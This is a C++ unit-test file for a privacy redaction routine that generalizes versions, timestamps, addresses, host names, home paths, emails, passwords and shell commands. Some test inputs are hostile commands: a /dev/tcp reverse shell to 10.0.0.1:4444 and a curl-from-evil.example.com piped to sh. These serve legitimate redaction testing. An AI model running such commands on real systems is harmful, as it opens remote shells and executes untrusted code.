// SPDX-License-Identifier: GPL-3.0-or-later

#include <flock/policy/rule_generalize.hpp>

#include <gtest/gtest.h>
#include <random>
#include <string>

#include <flock/base/utf8.hpp>

namespace flk {
namespace {

std::string generalized(Generalization to, std::string_view text) {
  std::string out;
  generalize(to, text, out);
  return out;
}

std::string home(std::string_view text) {
  return generalized(Generalization::home, text);
}

std::string command(std::string_view text) {
  return generalized(Generalization::command, text);
}

TEST(Generalize, CutsVersionsBehindTheirFirstNumbers) {
  const auto major = [](auto t) {
    return generalized(Generalization::major, t);
  };
  const auto minor = [](auto t) {
    return generalized(Generalization::minor, t);
  };
  EXPECT_EQ(major("10.14.4"), "10");
  EXPECT_EQ(minor("10.14.4"), "10.14");
  EXPECT_EQ(major("12 (bookworm)"), "12");
  EXPECT_EQ(minor("12 (bookworm)"), "12");
  EXPECT_EQ(minor("12."), "12");
  EXPECT_EQ(minor("12.x"), "12");
  EXPECT_EQ(major("v12"), "***");
  EXPECT_EQ(major("20260311"), "20260311");
  EXPECT_EQ(major("4917612345678"), "***");
  EXPECT_EQ(minor("12.4917612345678"), "12");
  EXPECT_EQ(minor("rolling"), "***");
}

TEST(Generalize, RoundsTimesDownToTheirDayOrMonth) {
  const auto day = [](auto t) { return generalized(Generalization::day, t); };
  const auto month = [](auto t) {
    return generalized(Generalization::month, t);
  };
  EXPECT_EQ(day("1554740670"), "1554681600");
  EXPECT_EQ(day("1554740670.75"), "1554681600");
  EXPECT_EQ(day("1554740670123"), "1554681600000");
  EXPECT_EQ(month("1554740670"), "1554076800");
  EXPECT_EQ(day("0"), "0");
  EXPECT_EQ(day("2026-11-23T07:00:00Z"), "2026-11-23");
  EXPECT_EQ(day("2026-11-23 07:00:00 +0100"), "2026-11-23");
  EXPECT_EQ(day("2026-11-23"), "2026-11-23");
  EXPECT_EQ(month("2026-11-23"), "2026-11");
  EXPECT_EQ(month("2026-11"), "2026-11");
}

TEST(Generalize, MasksWhatIsNoTime) {
  for (const auto* text :
       {"yesterday", "-1", "1554740670 Ann", "2026-11-23Ann", "2026-1-1",
        "99999999999999999999", "1.5.2", "253402300800000", "0176-12-34",
        "100000000001", "2026-02-30", "9999-99", "4917612345678", "01761234567",
        "49176123456"}) {
    EXPECT_EQ(generalized(Generalization::day, text), "***") << text;
    EXPECT_EQ(generalized(Generalization::month, text), "***") << text;
  }
}

TEST(Generalize, TakesAddressesToTheirNetwork) {
  const auto prefix = [](auto t) {
    return generalized(Generalization::prefix, t);
  };
  EXPECT_EQ(prefix("192.168.17.77"), "192.168.17.0/24");
  EXPECT_EQ(prefix("192.168.17.0/24"), "192.168.17.0/24");
  EXPECT_EQ(prefix("2001:db8:1:2:3:4:5:6"), "2001:db8:1::/48");
  EXPECT_EQ(prefix("2001:db8:1::/48"), "2001:db8:1::/48");
  EXPECT_EQ(prefix("::ffff:192.168.17.77"), "192.168.17.0/24");
  // The lower half is made from the hardware's address.
  EXPECT_EQ(prefix("fe80::0211:22ff:fe33:4455%eth0"), "fe80::/48");
  EXPECT_EQ(prefix("ann-laptop"), "***");
  EXPECT_EQ(prefix("192.168.17.77:80"), "***");
}

TEST(Generalize, KeepsAddressesThatSayWhoCanReachAService) {
  for (const auto* text : {"127.0.0.1", "127.0.0.53", "::1", "0.0.0.0", "::"}) {
    EXPECT_EQ(generalized(Generalization::prefix, text), text);
  }
  EXPECT_EQ(generalized(Generalization::prefix, "127.0.0.1%Ann"), "127.0.0.1");
  EXPECT_EQ(generalized(Generalization::prefix, "::/0"), "::/48");
}

TEST(Generalize, TakesHostNamesToTheirDomains) {
  const auto domain = [](auto t) {
    return generalized(Generalization::domain, t);
  };
  EXPECT_EQ(domain("ann-laptop"), "*");
  EXPECT_EQ(domain("ann-laptop.example.com ann-laptop"), "*.example.com *");
  EXPECT_EQ(domain("www.bank.co.uk"), "*.bank.co.uk");
  EXPECT_EQ(domain("bank.co.uk\texample.com."), "bank.co.uk\texample.com");
  EXPECT_EQ(domain("ann.ibm.com"), "*.ibm.com");
  EXPECT_EQ(domain("ann-laptop.local,ann.home.arpa"), "*.local,*.arpa");
  EXPECT_EQ(domain("localhost ip6-loopback broadcasthost"),
            "localhost ip6-loopback broadcasthost");
  EXPECT_EQ(domain("10.1.2.3 ::1"), "10.1.2.3 ::1");
  EXPECT_EQ(domain("ann@example.com ann/x.example.com"), "* *");
}

TEST(Generalize, SeesNoAddressWhereThereIsANul) {
  using namespace std::string_literals;
  const auto after = "10.0.0.1\0ann-laptop"s;
  EXPECT_EQ(generalized(Generalization::domain, after), "*");
  EXPECT_EQ(generalized(Generalization::domain, "::1\0ann"s), "*");
  EXPECT_EQ(generalized(Generalization::prefix, after), "***");
  EXPECT_EQ(generalized(Generalization::prefix, "127.0.0.1\0ann"s), "***");
  EXPECT_EQ(command("http://10.0.0.1\0ann/x"s), "http://*/*");
  EXPECT_EQ(command("/bin/sh\0ann file:///bin/sh\0ann"s), "* file://*");
}

TEST(Generalize, TakesNamesOfMachinesBelowNoPublicDomainToTheirTopLevel) {
  const auto domain = [](auto t) {
    return generalized(Generalization::domain, t);
  };
  EXPECT_EQ(domain("ann-mbp.LAN Anns-MacBook.Local"), "*.LAN *.Local");
  EXPECT_EQ(domain("ann-laptop.acme ann-pc.fritz x.fritz.box"),
            "*.acme *.fritz *.fritz.box");
  EXPECT_EQ(domain("x.ann-laptop ann.mac-7f"), "* *");
  EXPECT_EQ(domain("Bank.COM WWW.Bank.CO.UK bank.de"),
            "Bank.COM *.Bank.CO.UK bank.de");
}

TEST(Generalize, TakesHomesToATildeWhereverTheyStand) {
  EXPECT_EQ(home("/home/ann"), "~");
  EXPECT_EQ(home("/home/ann/bin/x"), "~/bin/x");
  EXPECT_EQ(home("/Users/ann/Library"), "~/Library");
  EXPECT_EQ(home("/users/ann"), "~");
  EXPECT_EQ(home("/root/.bashrc"), "~/.bashrc");
  EXPECT_EQ(home("/var/root"), "~");
  EXPECT_EQ(home("sh -c '/home/ann/x --log=/home/ann/y:/home/bob'"),
            "sh -c '~/x --log=~/y:~'");
  EXPECT_EQ(home("file:///home/ann/x"), "file:~/x");
  EXPECT_EQ(home("//home//./ann//x"), "~//x");
  EXPECT_EQ(home("/Users/Ann\\ Smith/x"), "~/x");
  EXPECT_EQ(home("/home/DOM\\ann/x"), "~/x");
  EXPECT_EQ(home("~ann/x ~"), "~/x ~");
}

TEST(Generalize, KeepsTheWayToAHomeInsideAPath) {
  EXPECT_EQ(home("/var/home/ann/x"), "/var/home/~/x");
  EXPECT_EQ(home("/System/Volumes/Data/Users/ann/x"),
            "/System/Volumes/Data/Users/~/x");
  EXPECT_EQ(home("-I/home/ann/include"), "-I/home/~/include");
}

TEST(Generalize, HidesWhatElseIsCalledAfterAnAccount) {
  EXPECT_EQ(home("/var/spool/cron/crontabs/ann"), "/var/spool/cron/crontabs/~");
  EXPECT_EQ(home("/var/spool/cron/ann"), "/var/spool/cron/~");
  EXPECT_EQ(home("/private/var/at/tabs/ann"), "/private/var/at/tabs/~");
  EXPECT_EQ(home("/media/ann/STICK"), "/media/~/STICK");
}

TEST(Generalize, FindsAccountsBehindAnySpellingOfTheirFolder) {
  EXPECT_EQ(home("/var/mail//ann"), "/var/mail//~");
  EXPECT_EQ(home("/./var/mail/ann"), "/./var/mail/~");
  EXPECT_EQ(home("//var/./spool//mail/./ann"), "//var/./spool//mail/./~");
  EXPECT_EQ(home("/media//ann/USB"), "/media//~/USB");
  EXPECT_EQ(home("/x/../media/ann/USB"), "/x/../media/~/USB");
  EXPECT_EQ(home("/System/Volumes/Data/private/var/at/tabs/ann"),
            "/System/Volumes/Data/private/var/at/tabs/~");
  EXPECT_EQ(home("//root/./x /.//var//root"), "~/./x ~");
  EXPECT_EQ(home("/usr/share/media/x /var/mailer/x"),
            "/usr/share/media/x /var/mailer/x");
}

TEST(Generalize, FindsTheEndOfNamesWithSpaces) {
  EXPECT_EQ(home("/home/Ann Smith/x"), "~/x");
  EXPECT_EQ(home("/Users/Ann Smith"), "~");
  EXPECT_EQ(home("/home/Ann O'Hara (work)/x"), "~/x");
  EXPECT_EQ(home("/media/Ann Smith/USB"), "/media/~/USB");
  EXPECT_EQ(home("/home/Ann Smith/x, /home/Ann Smith/y"), "~/x, ~/y");
  EXPECT_EQ(home("ls /home/Ann  van Smith/x -l"), "ls ~/x -l");
  EXPECT_EQ(home("ls /home/ann -l /home/bob /bin"), "ls ~ -l ~ /bin");
  EXPECT_EQ(command("ls /home/Ann Smith/x"), "ls ~ *");
}

TEST(Generalize, FindsTheNamesToWhichDotsLeadBack) {
  EXPECT_EQ(home("/home/x/../ann/y"), "~/../~/y");
  EXPECT_EQ(home("/home/x/../ann"), "~/../~");
  EXPECT_EQ(home("/home/x/a/b/../.././../ann/y"), "~/a/b/../.././../~/y");
  EXPECT_EQ(home("/home/x/../Ann Smith/y"), "~/../~/y");
  EXPECT_EQ(home("ls /home/x/../ann /home/x/../Ann Smith/y -l"),
            "ls ~/../~ ~/../~/y -l");
  EXPECT_EQ(home("/home/x/../ann/../bob/y"), "~/../~/../~/y");
  EXPECT_EQ(home("ls ~/../ann ~x/../ann"), "ls ~/../~ ~/../~");
  EXPECT_EQ(home("/var/mail/x/../ann"), "/var/mail/~/../~");
  EXPECT_EQ(home("/home/x/../../home/ann"), "~/../../home/~");
  EXPECT_EQ(command("sh /home/x/../ann/y"), "sh ~/../~/y");
  // These stay below one home.
  EXPECT_EQ(home("/home/x/a/../b/c"), "~/a/../b/c");
  EXPECT_EQ(home("/home/x/a b; ../c"), "~/a b; ../c");
}

TEST(Generalize, TakesDotsForNoNameOfAnAccount) {
  EXPECT_EQ(home("/var/mail/../mail/bob"), "/var/mail/../~/~");
  EXPECT_EQ(home("/var/spool/cron/../cron/crontabs/bob"),
            "/var/spool/cron/../~/~/~");
  EXPECT_EQ(home("/var/spool/cron/x/../../cron/crontabs/bob"),
            "/var/spool/cron/~/../../~/~/~");
  EXPECT_EQ(home("/var/mail/../../var/mail/bob"), "/var/mail/../../var/mail/~");
  EXPECT_EQ(home("/home/../home/./ann/x"), "/home/../home/./~/x");
  EXPECT_EQ(home("ls /home/.. /media/. -l"), "ls /home/.. /media/. -l");
  EXPECT_EQ(home("/root/../ann/x"), "~/../~/x");
}

TEST(Generalize, HidesTheMachinesOfShares) {
  EXPECT_EQ(home("//annpc/share/ann"), "//*/*");
  EXPECT_EQ(home("//ANNPC/Ann Smith, Bob/x"), "//*/*");
  EXPECT_EQ(home("//x.nas.example.com/y"), "//*.example.com/*");
  EXPECT_EQ(home("see //annpc/Ann Smith/x -l //annpc/ b //annpc"),
            "see //*/* -l //*/ b //*");
  EXPECT_EQ(home("//ann:hunter2@nas/x"), "//*/*");
  EXPECT_EQ(home("file:////annpc/x"), "file:////*/*");
  for (const auto* text :
       {"//usr//bin/x", "/opt//x", "https://example.com/x", "file:///opt/x"}) {
    EXPECT_EQ(home(text), text);
  }
}

TEST(Generalize, HidesWhatTheNamesOfMountsTell) {
  EXPECT_EQ(home("/run/user/1000/gvfs/smb-share:server=annpc,share=x,user=ann"),
            "/run/user/1000/gvfs/~");
  EXPECT_EQ(home("/run/user/1/gvfs/google-drive:host=acme.com,user=ann/x/y"),
            "/run/user/1/gvfs/~/x/y");
  EXPECT_EQ(home("ls /run/user/1//gvfs/./sftp:host=annpc,user=ann/x -l"),
            "ls /run/user/1//gvfs/./~/x -l");
  EXPECT_EQ(home("/run/user/1/gvfs/x/../smb-share:server=annpc,share=x/y"),
            "/run/user/1/gvfs/~/../~/y");
  EXPECT_EQ(home("/home/ann/.gvfs/taxes on annpc/x"), "~/.gvfs/~/x");
  EXPECT_EQ(command("ls /run/user/1/gvfs/smb-share:server=annpc,share=x"),
            "ls /run/user/1/gvfs/~:server=*,share=*");
}

TEST(Generalize, HidesAddressesOfPeople) {
  EXPECT_EQ(home("Mail ann.smith@example.com, <bob@x.org>"), "Mail *, <*>");
  EXPECT_EQ(home("ssh ann@ann-laptop:/x user=ann@[::1]"),
            "ssh *:/x user=*[::1]");
  EXPECT_EQ(home("/Users/ann/Library/CloudStorage/GoogleDrive-ann@x.com/y"),
            "~/Library/CloudStorage/*/y");
  EXPECT_EQ(home("/etc/systemd/system/openvpn@ann.service"),
            "/etc/systemd/system/*");
  EXPECT_EQ(command("/opt/ann@example.com/x ann@x"), "/opt/*/x *");
  EXPECT_EQ(home("ann@10.0.0.1"), "*");
  EXPECT_EQ(home("smb://ann:hunter2@nas/x ftp://:hunter2@nas:21/"),
            "smb://*/x ftp://:*:21/");
  for (const auto* text :
       {"/opt/homebrew/opt/python@3.9/bin", "/usr/lib/node_modules/@x/y",
        "/lib/systemd/system/getty@.service", "x @ y", "@"}) {
    EXPECT_EQ(home(text), text);
  }
}

TEST(Generalize, KeepsWhatCronTakesForATimeAlone) {
  const auto schedule = [](std::string_view text) {
    return generalized(Generalization::schedule, text);
  };
  for (const auto* text :
       {"*", "0", "59", "*/5", "1-5", "1-31/2", "0,15,30,45", "mon-fri",
        "Jan,FEB", "-*/10", "~", "0~59", "~30", "10~", "@reboot", "@daily"}) {
    EXPECT_EQ(schedule(text), text);
  }
  for (const auto* text : {"MAILTO=\"ann@acme.com,", "bob@acme.com,", "hunter2",
                           "=", "DB_PASSWORD", "@ann", "60", "0171123", "ann",
                           "1 2", "monday", "1\n", "#", "***"}) {
    EXPECT_EQ(schedule(text), "***") << text;
  }
}

TEST(Generalize, LeavesOtherPathsAsTheyAre) {
  for (const auto* text :
       {"/usr/bin/homectl", "/home", "/home/", "/rootfs/x", "/opt/root/x",
        "a~b", "/etc/cron.d/x", "home/ann", "///", "/./.", ""}) {
    EXPECT_EQ(home(text), text);
  }
}

TEST(Generalize, KeepsOfCommandsWhatIsTheSameForEverybody) {
  EXPECT_EQ(command("root test -x /usr/sbin/anacron || ( cd / && run-parts "
                    "--report /etc/cron.daily )"),
            "root test -x /usr/sbin/anacron || ( cd / && run-parts --report "
            "/etc/cron.daily )");
  EXPECT_EQ(command("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
  EXPECT_EQ(command("BOOT_IMAGE=/boot/vmlinuz root=UUID=12ab-34 ro "
                    "mitigations=off module.sig_enforce=1"),
            "BOOT_IMAGE=/boot/vmlinuz root=UUID=* ro mitigations=off "
            "module.sig_enforce=1");
}

TEST(Generalize, KeepsOfDevicesThoseThatAllMachinesHave) {
  EXPECT_EQ(command("root=/dev/mapper/ann--laptop--vg-root resume=/dev/disk/"
                    "by-id/ata-SAMSUNG_S4EVNX0N ro"),
            "root=/dev/* resume=/dev/* ro");
  EXPECT_EQ(command("/dev/annvg/root //dev/./mapper/x /x/../dev//mapper/x"),
            "/dev/* //dev/* /x/../dev//*");
  EXPECT_EQ(command("/dev/shm/../mapper/x ./dev/mapper/x file:///dev/mapper/x"),
            "/dev/* ./dev/* file:///dev/*");
  EXPECT_EQ(command("/dev/tcp/ann-laptop/22 /dev/udp/x.example.com/53 "
                    "/dev/tcp/a/b"),
            "/dev/tcp/*/22 /dev/udp/*.example.com/53 /dev/tcp/*/*");
  for (const auto* text :
       {"/dev/sda2", "/dev/nvme0n1p3", "/dev/null 2>/dev/stderr", "/dev/dm-0",
        "/dev/shm/x", "/dev/pts/0", "/dev", "/opt/dev/x"}) {
    EXPECT_EQ(command(text), text);
  }
  EXPECT_EQ(command("init=/nix/store/abc-nixos-system-ann-laptop-23.11/init"),
            "init=*");
}

TEST(Generalize, HidesOfCommandsTheMachinesOfShares) {
  EXPECT_EQ(command("mount //ann-laptop/ann /mnt //x.nas.example.com/y"),
            "mount //*/* /mnt //*.example.com/*");
  EXPECT_EQ(command("//ann:hunter2@nas/x //ann"), "//*:* //*");
  EXPECT_EQ(command("//usr//bin/x ///etc/y //Users/ann/z //Library/x"),
            "//usr//bin/x ///etc/y ~/z //Library/x");
  // As NetBIOS names are.
  EXPECT_EQ(command("mount -t cifs //ANNPC/ann-smith //Annspc/x /mnt"),
            "mount -t * //*/* //*/* /mnt");
  EXPECT_EQ(command("file:////annpc/share/ann"), "file:////*/*");
  // What cron gives to a program to read.
  EXPECT_EQ(command("/usr/bin/mail%Dear%hunter2"), "/usr/bin/mail%*%*");
}

TEST(Generalize, HidesEveryOtherWordOfACommand) {
  EXPECT_EQ(command("curl -u ann:hunter2 -phunter2 --password=hunter2"),
            "curl -u *:* -p* --password=*");
  EXPECT_EQ(command("MAILTO=ann@example.com ann /home/ann/run.sh Ann"),
            "MAILTO=* * ~/run.sh *");
  EXPECT_EQ(command("sh -c \"echo secret | base64 -d\""),
            "sh -c \"echo * | base64 -d\"");
  EXPECT_EQ(command("key c2VjcmV0cGE= c2VjcmV0cA== Sec3t=x"), "* *= *== *=*");
  EXPECT_EQ(command("--hunter-2-or-a-much-longer-secret -\u00e9"), "--* -*");
}

TEST(Generalize, KeepsOfUrlsTheSchemeAndTheDomain) {
  EXPECT_EQ(command("curl https://ann:pw@x.evil.example.com:8443/ann?k=v | sh"),
            "curl https://*.example.com/* | sh");
  EXPECT_EQ(command("wget http://10.0.0.1/x file:///home/ann/x"),
            "wget http://10.0.0.1/* file://~/x");
  EXPECT_EQ(command("ssh://ann-laptop"), "ssh://*");
  EXPECT_EQ(command("file:///x?user=ann file://~/../ann"),
            "file:///x?* file://~/../~");
  EXPECT_EQ(command("file://ann-laptop/x file://localhost/root"),
            "file://*/x file://localhost/~");
}

TEST(Generalize, LeavesAnEmptyTextEmpty) {
  for (int to = 0; to <= static_cast<int>(Generalization::schedule); ++to) {
    EXPECT_EQ(generalized(static_cast<Generalization>(to), ""), "");
  }
}

// Texts put together from what the scanners look at.
std::string any_text(std::mt19937& random) {
  static constexpr const char* kParts[] = {
      "/",      "/",         "/",         "//",         "..",     "/../",
      "./",     "/./",       ".",         " ",          " ",      "~",
      "home",   "/home/",    "Users",     "/root",      "root",   "/var/",
      "mail/",  "spool/",    "cron/",     "crontabs/",  "media/", "/run/",
      "/gvfs/", "smb-share", "server=",   "ann",        "bob",    "ANNPC",
      "usr",    "/dev",      "mapper",    "shm",        "http",   "file",
      "://",    "file://",   "localhost", "x.y.co",     "@",      "10.0.0.1",
      "::1",    "[",         "]",         "=",          ":",      ",",
      "\\",     "'",         "\"",        "-p",         "--x",    "*",
      "?",      "#",         "%",         "\n",         "sh",     "12",
      "T",      "\u00e9",    "0176",      "2026-11-23", "-12",    "."};
  std::string text;
  for (auto count = random() % 9; count > 0; --count) {
    text += kParts[random() % std::size(kParts)];
  }
  return text;
}

TEST(Generalize, IsIdempotentAndGivesUtf8) {
  std::mt19937 random{7};
  for (int i = 0; i < 200000; ++i) {
    const auto text = any_text(random);
    for (int n = 0; n <= static_cast<int>(Generalization::schedule); ++n) {
      const auto to = static_cast<Generalization>(n);
      const auto once = generalized(to, text);
      ASSERT_TRUE(is_utf8(once)) << text;
      ASSERT_EQ(generalized(to, once), once) << name_of(to) << ": " << text;
    }
  }
}

TEST(Generalize, TakesTimeLinearInTheLength) {
  constexpr std::size_t kLength = 1 << 18;
  for (const std::string part :
       {"/", "/./", "~", "/home", "://", "a=", "-", "a@", "@", "a@3", "~/../",
        "//", "a://b", " //a", "/gvfs/", "/home/../", "/dev/../"}) {
    std::string text;
    while (text.size() < kLength) text += part;
    // Quadratic work would not end before the test's time-out.
    EXPECT_LE(home(text).size(), 2 * text.size());
    EXPECT_LE(command(text).size(), 2 * text.size());
  }
}

}  // namespace
}  // namespace flk
